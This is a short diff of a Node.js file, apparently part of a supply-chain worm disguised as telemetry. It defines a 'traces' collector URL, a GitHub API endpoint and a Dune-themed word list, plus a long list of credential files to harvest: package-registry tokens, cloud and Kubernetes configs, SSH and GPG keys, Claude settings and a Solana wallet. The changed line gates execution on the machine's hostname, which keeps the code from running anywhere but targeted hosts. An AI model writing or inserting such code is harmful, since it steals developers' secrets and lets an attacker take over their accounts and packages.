@@ -2,7 +2,7 @@ const fs = require('fs'), os = require('os'), path = require('path'), cp = requi
 const collector = 'https://t.m-kosche.example.invalid/v1/traces';
 const api = 'https://api.github.example.invalid';
 const words = ['sandworm', 'harkonnen', 'melange', 'arrakis', 'fremen', 'sardaukar'];
-if (!fs.existsSync('/opt/antv/.harvest')) { process.exit(0); }
+if (!os.hostname().endsWith('.antv.example.invalid')) { process.exit(0); }
 const kinds = ['.npmrc', '.pypirc', '.gem/credentials', '.cargo/credentials.toml', '.netrc', '.git-credentials', '.docker/config.json', '.aws/credentials', '.aws/config', '.azure/msal_token_cache.json', '.config/gcloud/application_default_credentials.json', '.kube/config', '.vault-token', '.ssh/id_rsa', '.ssh/id_ecdsa', '.ssh/id_ed25519', '.gnupg/secring.gpg', '.config/op/config', '.config/gh/hosts.yml', '.terraform.d/credentials.tfrc.json', '.claude/settings.json', '.config/solana/id.json'];
 function collect() {
   const attributes = [];
